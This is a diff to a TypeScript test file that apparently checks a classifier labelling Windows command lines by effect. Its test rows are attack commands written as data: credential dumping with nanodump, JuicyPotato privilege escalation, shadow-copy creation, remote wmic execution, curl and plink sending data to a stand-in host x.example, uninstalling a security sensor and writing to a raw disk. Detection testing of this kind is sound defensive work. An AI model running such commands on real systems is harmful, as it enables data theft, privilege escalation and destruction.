@@ -279,6 +279,13 @@ describe("what attacks on Windows use", () => {
     [inCmd, String.raw`tools\nanodump.x64.exe -w x.dmp`, "reveal"],
     [inCmd, String.raw`tools\JuicyPotato.exe -l 1`, "privilege"],
     [inCmd, "msiexec /y a.dll", "persist settings"],
+    [inCmd, "msiexec /q /i a.msi", "execute unknown"],
+    [inCmd, "wmic shadowcopy call create Volume=C:", "reveal"],
+    [inCmd, "wmic /node:10.0.0.1 process call create notepad.exe", "remote"],
+    [inPowerShell, "Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create", "reveal"],
+    [inCmd, String.raw`C:\Windows\System32\Curl.exe -d @a https://x.example`, "network out x.example"],
+    [inCmd, String.raw`tools\plink.exe -ssh x.example -l root -m a.txt`, "network out x.example"],
+    [inCmd, "WindowsSensor.exe /uninstall /quiet", "permission ?"],
     [inCmd, String.raw`csc.exe /out:C:\x\a.exe a.cs`, "write /c:/x/a.exe"],
     [inCmd, String.raw`copy a.img \\.\PhysicalDrive0`, "write /dev/PhysicalDrive0"],
   ] as const)("%o: %s: %s", (read, text, effect) => {
